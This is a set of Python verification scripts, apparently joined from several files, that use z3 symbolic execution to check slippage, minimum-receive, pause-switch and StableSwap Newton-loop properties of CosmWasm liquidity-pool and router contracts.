        R = [st['b'][i] - st['f'][i] - (dd[i] if kindsT[i] == 'native' else 0) for i in range(3)]
        tol = a[0]
        bad = z3.Or(tol.variant != 'Some' or tol.fields[0].fields[0] != z3.Int('slippage'), *[a[1].fields[i].fields[0] != dd[i] for i in range(3)], *[a[2].fields[i].fields[1].fields[0] != R[i] for i in range(3)], a[4].fields[0] != st['S'])             if tol.variant == 'Some' else True
        ck.oblige('C15.tolerance.trio.args', p, bad, 'the deposit checks its tolerance on (deposits in pool order, reserves net of fees and of the credited deposit, minted LP, LP supply)')
    ck.require(n >= 1, 'trio provide never reached assert_slippage_tolerance')


def tolerance_pair_args(ck, prog):
    """the pair's deposit hands its slippage test the deposits in POOL order (the caller may list the assets in either order), the reserves net of
    fees and of the credited deposit, the pool type, the minted amount and the LP supply."""
    AST = 'terraswap_pair::helpers::assert_slippage_tolerance'
    def spy(it, a, c):
        it.extra['ast_args'] = [dup(deref(x)) for x in a]
        return it.run(it.prog.get(AST), list(a))
    for ptype in ('cp',):
        for cfg in ('nc', 'cn'):
            kinds = KIND_CFGS[cfg]
            n = 0
            for p in ck.explore(prog, provide_body(kinds, slippage=True, pair_type=ptype), 'tolerance.pair.args.%s.%s' % (ptype, cfg), stubs={AST: spy}):
                if 'ast_args' not in p.extra: continue
                n += 1
                a = p.extra['ast_args']; st = p.extra['st']; dd = p.extra['d']
                R = [st['b'][i] - st['f'][i] - (dd[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
                tol = a[0]
                bad = True if tol.variant != 'Some' else z3.Or(tol.fields[0].fields[0] != z3.Int('slippage'), *[a[1].fields[i].fields[0] != dd[i] for i in (0, 1)],
                                                              *[a[2].fields[i].fields[1].fields[0] != R[i] for i in (0, 1)], a[5].fields[0] != st['S'])
                ck.oblige('C15.tolerance.pair.args.%s.%s' % (ptype, cfg), p, bad, 'deposits in pool order, reserves net of fees and of the credited deposit, the LP supply and the caller\'s tolerance reach the test')
            ck.require(n >= 1, 'pair provide (%s, %s) never reached assert_slippage_tolerance' % (ptype, cfg))


def trio_swap_args(ck):
    """three-asset pool: swap checks slippage on (offer, return + ALL fees, spread) with the caller's limits."""
    import lib_trio as LT
    prog3 = ck.program('stableswap_3pool', 'white_whale_std')
    SCN = 'stableswap_3pool::helpers::SwapComputation'
    def stub_cs(it, a, c):
        x = it.ctx
        return OK(it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)), swap_fee_amount=U128(x.sym('sc_swap', 120)),
                        protocol_fee_amount=U128(x.sym('sc_prot', 120)), burn_fee_amount=U128(x.sym('sc_burn', 120))))
    def stub_ams(it, a, c):
        it.extra['ams_args'] = [dup(v) for v in a]
        return OK(UNIT())
    kinds = ('native', 'native', 'cw20')
    for oi, ai in ((0, 1), (2, 0)):
        n = 0
        for p in ck.explore(prog3, LT.tswap_body(kinds, oi, ai, belief=True), 'trio.swap_args.o%d' % oi, validate=False, stubs={'stableswap_3pool::helpers::compute_swap': stub_cs, AMS: stub_ams}):
            if 'ams_args' not in p.extra:
                continue
            n += 1
            a = p.extra['ams_args']
            ret, sp, sw, pr, bu = [z3.Int(k) for k in ('sc_ret', 'sc_spread', 'sc_swap', 'sc_prot', 'sc_burn')]
            bad = z3.Or(a[0].fields[0].fields[0] != z3.Int('belief_price'), a[1].fields[0].fields[0] != z3.Int('max_spread'), a[2].fields[0] != p.extra['offer'], a[3].fields[0] != ret + sw + pr + bu, a[4].fields[0] != sp)
            ck.oblige('C15.trio.swap.args.o%d' % oi, p, bad, 'the three-asset swap checks slippage on (offer, return + swap + protocol + burn fee, spread) with the caller\'s limits')
        ck.require(n >= 1, 'trio swap never reached assert_max_spread (o%d)' % oi)


def swap_args(ck, prog):
    """entry level: swap passes (offer amount, return + all fees, spread) to assert_max_spread."""
    SCN = 'terraswap_pair::helpers::SwapComputation'
    for cfg, oi in (('nn', 0), ('nc', 1)):
        kinds = KIND_CFGS[cfg]
        rec = {}
        def stub_cs(it, a, c):
            x = it.ctx
            sc = it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)),
                       swap_fee_amount=U128(x.sym('sc_swap', 120)), protocol_fee_amount=U128(x.sym('sc_prot', 120)),
                       burn_fee_amount=U128(x.sym('sc_burn', 120)))
            return OK(sc)
        def stub_ams(it, a, c):
            it.extra['ams_args'] = [dup(v) for v in a]
            return OK(UNIT())
        paths = ck.explore(prog, swap_body(kinds, oi, belief=True), 'swap_args.%s' % cfg, validate=False,
                           stubs={'terraswap_pair::helpers::compute_swap': stub_cs, AMS: stub_ams})
        n = 0
        for p in paths:
            if 'ams_args' not in p.extra: continue
            n += 1
            a = p.extra['ams_args']
            ret, sp, sw, pr, bu = [z3.Int(k) for k in ('sc_ret', 'sc_spread', 'sc_swap', 'sc_prot', 'sc_burn')]
            bad = z3.Or(a[0].fields[0].fields[0] != z3.Int('belief_price'), a[1].fields[0].fields[0] != z3.Int('max_spread'),
                        a[2].fields[0] != p.extra['offer'], a[3].fields[0] != ret + sw + pr + bu, a[4].fields[0] != sp)
            ck.oblige('C15.swap.args.' + cfg, p, bad, 'swap checks slippage on (offer, return + fees, spread) with the caller\'s limits')
        ck.require(n >= 1, 'swap never reached assert_max_spread (%s)' % cfg)
        # with the real kernel: whatever compute_swap yields (a zero spread or a zero return included), an accepted swap went through the check
        def spy_ams(it, a, c):
            it.extra['ams_called'] = True
            return it.run(it.prog.get(AMS), list(a))
        m = 0
        for p in ck.explore(prog, swap_body(kinds, oi, belief=True), 'swap_checked.%s' % cfg, stubs={AMS: spy_ams}):
            if p.ok: m += 1
            ck.oblige('C15.swap.always_checked.' + cfg, p, p.ok and not p.extra.get('ams_called'), 'no swap is accepted without the slippage check having been applied')
        ck.require(m >= 1, 'swap (real kernel, %s): no Ok path' % cfg)


RT = 'terraswap_router'
RX = PN + 'router::ExecuteMsg'
ROUTER = 'router_contract'
# asset chain used for routes: native uluna -> cw20 token_b -> native uusd -> cw20 token_c
CHAIN = [('native', 'uluna'), ('cw20', 'token_b'), ('native', 'uusd'), ('cw20', 'token_c')]


def ainfo(it, k):
    kind, name = CHAIN[k]
    return it.mkv(AI, 'NativeToken', denom=Str(name)) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str(name))


def router_world(it):
    w = it.world; w.contract = ROUTER
    w.item('config', it.mk('terraswap_router::state::Config', terraswap_factory=Agg('cosmwasm_std::CanonicalAddr', [Str('factory_contract')])))


def router_checks(ck, progr):
    # (a) execute_swap_operations appends AssertMinimumReceive last, with the receiver's *current* balance of the final asset
    for nops in (1, 2, 3):
        for to_given in (True, False):
            def body(it, nops=nops, to_given=to_given):
                c = it.ctx; router_world(it)
                ops = [it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=ainfo(it, k), ask_asset_info=ainfo(it, k + 1)) for k in range(nops)]
                recv = 'recv' if to_given else 'trader'
                kind, name = CHAIN[nops]
                bal = c.sym('recv_balance', 128)
                if kind == 'native': it.world.bank.append((Str(recv), Str(name), bal))
                else: it.world.cw20.append((Str(name), Str(recv), bal))
                msg = it.mkv(RX, 'ExecuteSwapOperations', operations=VecV(ops), minimum_receive=SOME(U128(c.sym('min_receive', 128))),
                             to=SOME(Str('recv')) if to_given else NONE(), max_spread=SOME(DEC(c.sym('max_spread', 128))))
                it.extra = dict(recv=recv, final=CHAIN[nops])
                return enter(it, RT, 'execute', mk_env(it, 10**18), mk_info('trader', []), msg)
            paths = ck.explore(progr, body, 'router.ops%d.%s' % (nops, 'to' if to_given else 'self'))
            nok = 0
            for p in paths:
                ck.sample(dict(entry='router.execute(ExecuteSwapOperations)', hops=nops, outcome=p.short()))
                if not p.ok: continue
                nok += 1
                calls = wasm_execs(resp_of(p))
                shape = len(calls) == nops + 1 and all(same(sname(t), ROUTER) for t, _, _, _ in calls) and \
                    all(isinstance(m, Enum) and m.variant == 'ExecuteSwapOperation' for _, m, _, _ in calls[:-1]) and \
                    isinstance(calls[-1][1], Enum) and calls[-1][1].variant == 'AssertMinimumReceive' if calls else False
                ck.oblige('C15.router.append_assert.shape.hops%d' % nops, p, not shape, 'one self-call per hop, then AssertMinimumReceive last')
                if not shape: continue
                am = calls[-1][1]
                ai_, prev, minr, rcv = am.fields
                kind, name = p.extra['final']
                good_asset = ai_.variant == ('NativeToken' if kind == 'native' else 'Token') and same(ai_.fields[0], name)
                ck.oblige('C15.router.append_assert.hops%d' % nops, p,
                          z3.Or(prev.fields[0] != z3.Int('recv_balance'), minr.fields[0] != z3.Int('min_receive'), not good_asset, not same(rcv, p.extra['recv'])),
                          'assertion carries the final asset, the receiver, its balance now, and the caller\'s minimum')
                for k, (_, m, _, _) in enumerate(calls[:-1]):
                    to_f = m.fields[1]
                    ok_to = (to_f.variant == 'Some' and same(to_f.fields[0], p.extra['recv'])) if k == nops - 1 else to_f.variant == 'None'
                    ms_ok = m.fields[2].variant == 'Some'
                    ck.oblige('C15.router.hop_to.hops%d.%d' % (nops, k), p, z3.Or(not ok_to, not ms_ok, m.fields[2].fields[0].fields[0] != z3.Int('max_spread')) if ms_ok else True,
                              'only the last hop pays the receiver; every hop carries max_spread')
            ck.require(nok >= 1, 'router execute_swap_operations: no Ok path')
    # (b) assert_minimum_receive: Ok <=> now - prev >= min
    for kind, name in (('native', 'uusd'), ('cw20', 'token_c')):
        def body(it, kind=kind, name=name):
            c = it.ctx; router_world(it)
            now = c.sym('now_balance', 128)
            if kind == 'native': it.world.bank.append((Str('recv'), Str(name), now))
            else: it.world.cw20.append((Str(name), Str('recv'), now))
            ai_ = it.mkv(AI, 'NativeToken', denom=Str(name)) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str(name))
            msg = it.mkv(RX, 'AssertMinimumReceive', asset_info=ai_, prev_balance=U128(c.sym('prev', 128)), minimum_receive=U128(c.sym('minr', 128)), receiver=Str('recv'))
            return enter(it, RT, 'execute', mk_env(it, 10**18), mk_info('anyone', []), msg)
        paths = ck.explore(progr, body, 'router.assert_min.' + kind)
        now, prev, minr = z3.Int('now_balance'), z3.Int('prev'), z3.Int('minr')
        kinds = set()
        for p in paths:
            kinds.add(p.short().split('(')[0])
            if p.ok: ck.oblige('C15.router.assert.sound.' + kind, p, z3.Not(now - prev >= minr), 'Ok => balance grew by at least the minimum')
            else: ck.oblige('C15.router.assert.complete.' + kind, p, z3.And(now >= prev, now - prev >= minr), 'growth >= minimum => accepted')
        ck.require(kinds >= {'Ok', 'Err'}, 'assert_minimum_receive: expected Ok and Err paths')


def main():
    ck = Check('C15')
    prog = ck.program('terraswap_pair', 'white_whale_std')
    max_spread_checks(ck, prog)
    tolerance_pair(ck, prog)
    tolerance_pair_args(ck, prog)
    tolerance_trio(ck)
    trio_swap_args(ck)
    swap_args(ck, prog)
    router_checks(ck, ck.program('terraswap_router', 'white_whale_std'))
    ck.bounds.update(widths='all amounts, prices, spreads and tolerances full u128 / any Decimal', routes='router: 1..3 hops over a fixed alternating native/cw20 asset chain, receiver given or defaulting to the sender')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
