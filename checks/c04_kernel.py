"""C04 part: loop-exit obligations of StableSwap::compute_y_raw (three-asset pool), same construction as c03_kernel: the loop state is
arbitrary, one iteration of the real MIR runs, only exits are kept.  Decided: the coefficients c and b equal an independent discretisation
of the curve's quadratic in y (the other two reserves fixed), and a y returned through the convergence `break` is within 2 base units of the
positive root of t^2 + (b - d) t - c.  NOT decided: the exit by exhausting the 1000 iterations returns the last iterate unchecked (the code has
no error there); it is unreachable only by an argument about Newton's method on a convex quadratic that is outside this technique."""
import re
import z3
from engine.harness import *
from engine.models_std import SymRange

SS = 'stableswap_3pool::stableswap_math::curve::StableSwap'
HY = SS + '::compute_y_raw'
HA = SS + '::compute_amp_factor'


def locals_of(prog):
    text = prog.items[HY][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text):
        dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if 'as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line:
            header = cur; break
    return dbg, header


def run(ck, prog):
    dbg, header = locals_of(prog)
    need = ('y', 'iter', 'c', 'b')
    if header is None or any(k not in dbg for k in need):
        ck.inconclusive.append('C04 kernel: cannot locate the Newton loop of compute_y_raw in the MIR (locals %r, header %r)' % ({k: dbg.get(k) for k in need}, header)); return
    def stub_amp(it, a, c):
        amp = it.ctx.sym('amp', 64); it.ctx.assume(amp >= 1); it.ctx.assume(amp <= 10 ** 6)
        return SOME(amp)
    def body(it):
        c = it.ctx
        x, ns = c.sym('swap_in', 128), c.sym('no_swap', 128)
        for v in (x, ns): c.assume(v >= 10 ** 6); c.assume(v < 2 ** 100)
        d = c.sym('D_any', 110); c.assume(d >= 1)
        inv = Agg(SS, [c.sym('ia', 64), c.sym('ta', 64), c.sym('now', 64), c.sym('start', 64), c.sym('stop', 64)])
        return it.run(it.prog.get(HY), [Ref([inv], 0), U128(x), U128(ns), U256(d)])
    la = {HY: {'header': header, 'havoc': {dbg['y']: lambda it: U256(it.ctx.sym('y_prev', 130)), dbg['iter']: lambda it: SymRange(it.ctx.sym('iter_i', 10), 1000, False)},
               'observe': [dbg['c'], dbg['b']]}}
    nbreak = nexh = 0
    for p in ck.explore(prog, body, 'kernel.y3', stubs={HA: stub_amp}, loop_abs=la, validate=False, feas_ms=4000):
        ck.sample(dict(fn='StableSwap::compute_y_raw (one arbitrary iteration)', outcome=p.short() if p.kind != 'ret' else p.value.variant, decisions=p.log[-3:]))
        if p.kind != 'ret':
            # unwrap() on checked arithmetic: only overflow of 256-bit intermediates / a zero denominator can abort
            continue
        if p.value.variant != 'Some': continue
        obs = p.observed.get(HY) or {}
        cc, bc = [deref(obs[dbg[k]]).fields[0] for k in ('c', 'b')]
        y = p.value.fields[0].fields[0]
        x, ns, d, amp = z3.Int('swap_in'), z3.Int('no_swap'), z3.Int('D_any'), z3.Int('amp')
        ann = amp * 3
        c_ref = p.div(p.div(p.div(d * d, x * 3) * d, ns * 3) * d, ann * 3); b_ref = p.div(d, ann) + x + ns
        ck.oblige('C04.kernel.coeff.c', p, cc != c_ref, 'c = floor(floor(floor(D^2/(3 x)) D/(3 x\')) D/(3 Ann)), Ann = 3 amp')
        ck.oblige('C04.kernel.coeff.b', p, bc != b_ref, 'b = floor(D/Ann) + x + x\'')
        f = lambda t: t * t + (bc - d) * t - cc
        yp = z3.Int('y_prev')
        if is_sym(y) and y.eq(yp):
            nexh += 1            # the range was exhausted: the function hands back the (arbitrary) loop state unchecked
            continue
        nbreak += 1
        ck.oblige('C04.kernel.y.upper', p, f(y + 2) <= 0, 'the root is below y + 2')
        ck.oblige('C04.kernel.y.lower', p, z3.And(y >= 2, f(y - 2) > 0), 'the root is not below y - 2')
        ck.expect_sat('C04.kernel.cover', p, z3.And(d == 3 * 10 ** 12, x == 11 * 10 ** 11, ns == 10 ** 12, amp == 100, yp > 10 ** 9))
    ck.require(nbreak >= 1, 'kernel.y3: no converged exit')
    ck.bounds['kernel_y3'] = 'compute_y_raw: arbitrary loop state, one iteration, exit paths only; reserves in [10^6, 2^100), D in [1, 2^110), amp in [1, 10^6]'
    ck.outside.append('compute_y_raw returns its last iterate when 1000 iterations pass without convergence (%d such exit path(s) seen and not constrained)' % nexh)
    ck.stubs.add('StableSwap::compute_amp_factor -> arbitrary amp in [1, 10^6] (kernel part)')
