"""C04 part: loop-exit obligations of StableSwap::compute_y_raw (three-asset pool), same construction as c03_kernel: the loop state is
arbitrary, one iteration of the real MIR runs, only exits are kept.  Decided: the coefficients c and b equal an independent discretisation
of the curve's quadratic in y (the other two reserves fixed), and a y returned through the convergence `break` is within 2 base units of the
positive root of t^2 + (b - d) t - c.  NOT decided: the exit by exhausting the 1000 iterations returns the last iterate unchecked (the code has
no error there); it is unreachable only by an argument about Newton's method on a convex quadratic that is outside this technique."""
import re
import z3
from engine.harness import *
from engine.models_std import SymRange

SS = 'stableswap_3pool::stableswap_math::curve::StableSwap'
HY = SS + '::compute_y_raw'
HA = SS + '::compute_amp_factor'


def locals_of(prog):
    text = prog.items[HY][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text):
        dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if 'as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line:
            header = cur; break
    return dbg, header


HD3 = SS + '::compute_d'


def d3_exact(A, a, b, c):
    """independent solution of the three-asset invariant in the convention of the code under analysis (Ann = n * amp): Ann (a+b+c) + D = Ann D + D^4/(27abc)
    with Ann = 3A: floor(D) by integer bisection (strictly decreasing in D)."""
    S = a + b + c; ann = 3 * A
    g = lambda D: 27 * a * b * c * (ann * S + D - ann * D) - D ** 4
    lo, hi = 0, 2 * S + 2
    while hi - lo > 1:
        mid = (lo + hi) // 2
        if g(mid) >= 0: lo = mid
        else: hi = mid
    return lo


def trio_deposit_leaks(reals, scs, kinds):
    """on the REAL contract's answer: the LP minted exceeds S*(D1-D0)/D0 of the exact invariant by more than 0.1%."""
    import base64, json as _json
    import lib_trio as LT
    real = reals[0]['result']; sc = scs[0]
    if real.get('outcome') != 'ok': return False
    st = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    cfg = st['config']
    if cfg['initial_amp'] != cfg['future_amp']: return False
    amp = cfg['future_amp']; f = [int(a['amount']) for a in st['collected_protocol_fees']]
    bal = []
    for i, k in enumerate(kinds):
        if k == 'native': bal.append([int(x[2]) for x in sc['bank'] if x[0] == LT.TRIO and x[1] == LT.TNAMES['native'][i]][0])
        else: bal.append([int(r['balance']) for t, q, r in sc['smart'] if t == LT.TNAMES['cw20'][i] and 'balance' in q][0])
    S = [int(r['total_supply']) for t, q, r in sc['smart'] if t == LT.TLP and 'token_info' in q][0]
    dep = {}
    for a in sc['msg']['provide_liquidity']['assets']:
        nm = a['info'].get('native_token', {}).get('denom') or a['info']['token']['contract_addr']
        dep[nm] = int(a['amount'])
    d = [dep[LT.tname(kinds, i)] for i in range(3)]
    R = [bal[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in range(3)]
    mint = None
    for m in real['response']['messages']:
        ex = m['msg'].get('wasm', {}).get('execute')
        if not ex: continue
        inner = ex['msg']
        if isinstance(inner, str): inner = _json.loads(base64.b64decode(inner))
        if 'mint' in inner and inner['mint']['recipient'] == 'recv': mint = int(inner['mint']['amount'])
    if mint is None or min(R) <= 0: return False
    D0 = d3_exact(amp, *R); D1 = d3_exact(amp, *[R[i] + d[i] for i in range(3)])
    return D0 > 0 and mint * D0 * 1000 > S * (D1 - D0) * 1001


def d_budget(ck, prog):
    """iteration budget of the three-asset compute_d, same construction as in c03_kernel: per iteration 4 (next + 1) > 3 d for d <= a + b + c (decided);
    assuming the iterates never exceed their start, after N iterations the iterate is above (3/4)^N (a+b+c) - 4; a budget that leaves this above the
    exact invariant of the pool (2^60 + 10^6, 10^6, 10^6) is judged on the real contract by the independent invariant."""
    import lib_trio as LT
    text = prog.items[HD3][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text): dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None; budget = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if ('as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line) and header is None: header = cur
        m2 = re.search(r'Range::<\w+> \{ start: const 0_\w+, end: const ([^ }]+) \}', line)
        if m2 and budget is None:
            try:
                from engine.core import Interp, Ctx
                from engine.models_cw import World
                v = Interp(prog, Ctx(), World()).const(m2.group(1), prog.get(HD3))
                budget = int(v) if isinstance(v, int) and not isinstance(v, bool) else None
            except Exception: budget = None
    if header is None or 'd' not in dbg or budget is None:
        ck.outside.append('NOT DECIDED in this run - C04 kernel: cannot locate the Newton loop / iteration budget of compute_d in the MIR'); return
    iter_loc = dbg.get('iter')
    def stub_amp(it, a, c):
        amp = it.ctx.sym('amp', 64); it.ctx.assume(amp >= 1); it.ctx.assume(amp <= 10 ** 6)
        return SOME(amp)
    def body(it):
        c = it.ctx
        xs = [c.sym(n, 128) for n in ('a', 'b', 'c')]
        for v in xs: c.assume(v >= 1); c.assume(v < 2 ** 64)
        inv = Agg(SS, [c.sym('ia', 64), c.sym('ta', 64), c.sym('now', 64), c.sym('start', 64), c.sym('stop', 64)])
        return it.run(it.prog.get(HD3), [Ref([inv], 0)] + [U128(v) for v in xs])
    def mkd(it):
        d = it.ctx.sym('d_prev', 68); it.ctx.assume(d >= 1); it.ctx.assume(d <= z3.Int('a') + z3.Int('b') + z3.Int('c')); return U256(d)
    havoc = {dbg['d']: mkd}
    if iter_loc is not None: havoc[iter_loc] = lambda it: SymRange(it.ctx.sym('iter_i', 9), budget, False)
    la = {HD3: {'header': header, 'havoc': havoc, 'observe': [], 'keep_back': True, 'back_observe': [dbg['d']]}}
    dprev = z3.Int('d_prev'); ok = True; n = 0
    for p in ck.explore(prog, body, 'kernel.d3.step', stubs={HA: stub_amp}, loop_abs=la, validate=False, feas_ms=4000):
        if p.kind == 'back': dn = deref(p.value[dbg['d']]).fields[0]
        elif p.kind == 'ret' and p.value.variant == 'Some':
            dn = p.value.fields[0].fields[0]
            if is_sym(dn) and dn.eq(dprev): continue
        else: continue
        n += 1
        v = ck.oblige('C04.kernel.d.shrink', p, 4 * (dn + 1) <= 3 * dprev, 'from an iterate of at most a + b + c, one iteration lowers it by less than a quarter (minus one unit)')
        ok = ok and v == 'unsat'
    ck.require(n >= 2, 'kernel.d3.step: expected exit and back-edge paths')
    ck.assumptions.append('trio compute_d budget argument: iterates started at a + b + c never exceed it (used only to select the witness input; an alarm needs the real contract to leak per the independent invariant)')
    if not ok: return
    A = 100; pool = (10 ** 6 + 2 ** 60, 10 ** 6 + 1, 10 ** 6 + 1)
    lower = sum(pool) * 3 ** budget // 4 ** budget - 4
    exact = d3_exact(A, *pool)
    insufficient = lower * 1000 > exact * 1001
    ck.bounds['kernel_d3'] = 'trio compute_d: iteration budget %d read from the MIR; per-step bound for reserves in [1, 2^64), amp in [1, 10^6]; budget judged on the pool (10^6 + 2^60, 10^6 + 1, 10^6 + 1), amp 100' % budget
    kinds = ('native', 'native', 'cw20')
    nice = [z3.Int('b0') == 10 ** 6 + 2 ** 60, z3.Int('b1') == 10 ** 6 + 1, z3.Int('b2') == 10 ** 6] + [z3.Int('f%d' % i) == 0 for i in range(3)] + [z3.Int('at%d' % i) == 0 for i in range(3)] + \
           [z3.Int('d0') == 2 ** 60, z3.Int('d1') == 1, z3.Int('d2') == 1, z3.Int('S') == 3 * 10 ** 6, z3.Int('initial_amp') == A, z3.Int('future_amp') == A, z3.Int('initial_amp_block') == 1, z3.Int('future_amp_block') == 2, z3.Int('height') == 12345]
    for p in ck.explore(prog, LT.tprovide_body(kinds, first=False), 'kernel.d3.budget.witness', stubs=LT.KERNEL_STUBS, validate=False):
        if not p.ok: continue
        ck.oblige('C04.kernel.d.budget', p, z3.BoolVal(bool(insufficient)), 'the iteration budget of compute_d (%d) can reach the invariant of the pool (2^60 + 10^6, 10^6, 10^6): (3/4)^budget (a+b+c) - 4 = %d must not exceed the exact invariant %d' % (budget, lower, exact),
                  native_pred=lambda reals, scs: trio_deposit_leaks(reals, scs, kinds), nice=nice)
        break


def run(ck, prog):
    d_budget(ck, prog)
    dbg, header = locals_of(prog)
    need = ('y', 'iter', 'c', 'b')
    if header is None or any(k not in dbg for k in need):
        ck.outside.append('NOT DECIDED in this run - C04 kernel: cannot locate the Newton loop of compute_y_raw in the MIR (locals %r, header %r)' % ({k: dbg.get(k) for k in need}, header)); return
    def stub_amp(it, a, c):
        amp = it.ctx.sym('amp', 64); it.ctx.assume(amp >= 1); it.ctx.assume(amp <= 10 ** 6)
        return SOME(amp)
    def body(it):
        c = it.ctx
        x, ns = c.sym('swap_in', 128), c.sym('no_swap', 128)
        for v in (x, ns): c.assume(v >= 10 ** 6); c.assume(v < 2 ** 100)
        d = c.sym('D_any', 110); c.assume(d >= 1)
        inv = Agg(SS, [c.sym('ia', 64), c.sym('ta', 64), c.sym('now', 64), c.sym('start', 64), c.sym('stop', 64)])
        return it.run(it.prog.get(HY), [Ref([inv], 0), U128(x), U128(ns), U256(d)])
    la = {HY: {'header': header, 'havoc': {dbg['y']: lambda it: U256(it.ctx.sym('y_prev', 130)), dbg['iter']: lambda it: SymRange(it.ctx.sym('iter_i', 10), 1000, False)},
               'observe': [dbg['c'], dbg['b']]}}
    nbreak = nexh = 0
    for p in ck.explore(prog, body, 'kernel.y3', stubs={HA: stub_amp}, loop_abs=la, validate=False, feas_ms=4000):
        ck.sample(dict(fn='StableSwap::compute_y_raw (one arbitrary iteration)', outcome=p.short() if p.kind != 'ret' else p.value.variant, decisions=p.log[-3:]))
        if p.kind != 'ret':
            # unwrap() on checked arithmetic: only overflow of 256-bit intermediates / a zero denominator can abort
            continue
        if p.value.variant != 'Some': continue
        obs = p.observed.get(HY) or {}
        cc, bc = [deref(obs[dbg[k]]).fields[0] for k in ('c', 'b')]
        y = p.value.fields[0].fields[0]
        x, ns, d, amp = z3.Int('swap_in'), z3.Int('no_swap'), z3.Int('D_any'), z3.Int('amp')
        ann = amp * 3
        c_ref = p.div(p.div(p.div(d * d, x * 3) * d, ns * 3) * d, ann * 3); b_ref = p.div(d, ann) + x + ns
        ck.oblige('C04.kernel.coeff.c', p, cc != c_ref, 'c = floor(floor(floor(D^2/(3 x)) D/(3 x\')) D/(3 Ann)), Ann = 3 amp')
        ck.oblige('C04.kernel.coeff.b', p, bc != b_ref, 'b = floor(D/Ann) + x + x\'')
        f = lambda t: t * t + (bc - d) * t - cc
        yp = z3.Int('y_prev')
        if is_sym(y) and y.eq(yp):
            nexh += 1            # the range was exhausted: the function hands back the (arbitrary) loop state unchecked
            continue
        nbreak += 1
        ck.oblige('C04.kernel.y.upper', p, f(y + 2) <= 0, 'the root is below y + 2')
        ck.oblige('C04.kernel.y.lower', p, z3.And(y >= 2, f(y - 2) > 0), 'the root is not below y - 2')
        ck.expect_sat('C04.kernel.cover', p, z3.And(d == 3 * 10 ** 12, x == 11 * 10 ** 11, ns == 10 ** 12, amp == 100, yp > 10 ** 9))
    ck.require(nbreak >= 1, 'kernel.y3: no converged exit')
    ck.bounds['kernel_y3'] = 'compute_y_raw: arbitrary loop state, one iteration, exit paths only; reserves in [10^6, 2^100), D in [1, 2^110), amp in [1, 10^6]'
    ck.outside.append('compute_y_raw returns its last iterate when 1000 iterations pass without convergence (%d such exit path(s) seen and not constrained)' % nexh)
    ck.stubs.add('StableSwap::compute_amp_factor -> arbitrary amp in [1, 10^6] (kernel part)')
