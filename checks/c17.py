"""C17 — pause switches stop exactly the operation they name (toggle bits symbolic in the stored configuration)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *
import lib_vault as LV


def is_disabled_err(p, words):
    if not p.err: return False
    e = deref(p.value.fields[0])
    if isinstance(e, Enum) and e.variant == 'OperationDisabled': return True
    return isinstance(e, Enum) and e.variant in words


def toggles_sym(c): return (c.symbool('t_withdrawals'), c.symbool('t_deposits'), c.symbool('t_swaps'))


def pair_paths(ck, prog, contract='pair'):
    tw, td, ts = z3.Bool('t_withdrawals'), z3.Bool('t_deposits'), z3.Bool('t_swaps')
    cases = []
    for cfg in (('nc',) if ck.tier == 'quick' else ('nc', 'cn', 'nn', 'cc')):
        kinds = KIND_CFGS[cfg]; sfx = '' if cfg == 'nc' else '.' + cfg
        cases += [('swap.o0' + sfx if cfg != 'nc' else 'swap.native', lambda it, k=kinds: swap_body(k, 0, toggles=toggles_sym(it.ctx))(it), ts),
                  ('swap.o1' + sfx if cfg != 'nc' else 'swap.cw20_hook', lambda it, k=kinds: swap_body(k, 1, toggles=toggles_sym(it.ctx))(it), ts),
                  ('provide' + sfx, lambda it, k=kinds: provide_body(k, toggles=toggles_sym(it.ctx))(it), td),
                  ('provide.first' + sfx, lambda it, k=kinds: provide_body(k, first=True, toggles=toggles_sym(it.ctx))(it), td),
                  ('withdraw.cw20_hook' + sfx, lambda it, k=kinds: withdraw_body(k, toggles=toggles_sym(it.ctx))(it), tw)]
    for name, body, bit in cases:
        paths = ck.explore(prog, body, 'pair.' + name)
        seen_ok = seen_dis = False
        for p in paths:
            ck.sample(dict(entry='pair.' + name, outcome=p.short()))
            if p.ok:
                seen_ok = True
                ck.oblige('C17.pair.%s.off_rejects' % name, p, z3.Not(bit), 'accepted only while the switch for this operation is on')
            elif is_disabled_err(p, ()):
                seen_dis = True
                ck.oblige('C17.pair.%s.on_not_disabled' % name, p, bit, 'the "disabled" rejection only when this operation\'s own switch is off, whatever the other switches')
                ck.oblige('C17.pair.%s.reject_no_write' % name, p, len(p.world.writes) != 0, 'a paused operation writes nothing')
        ck.require(seen_ok and seen_dis, 'pair.%s: expected both accepted and disabled paths' % name)
        # exactly: with the bit on, no other switch can produce the disabled error (covered above); with the bit off no Ok (above)


def pair_direct_cw20_swap(ck, prog):
    """a direct Swap message naming the pool's cw20 asset as the offer carries no tokens (cw20 offers arrive through the token's Send hook):
    it must be refused in every switch state, and in particular cannot get around a disabled swap switch."""
    kinds = KIND_CFGS['nc']
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds, toggles=toggles_sym(c))
        common_inv(c, st)
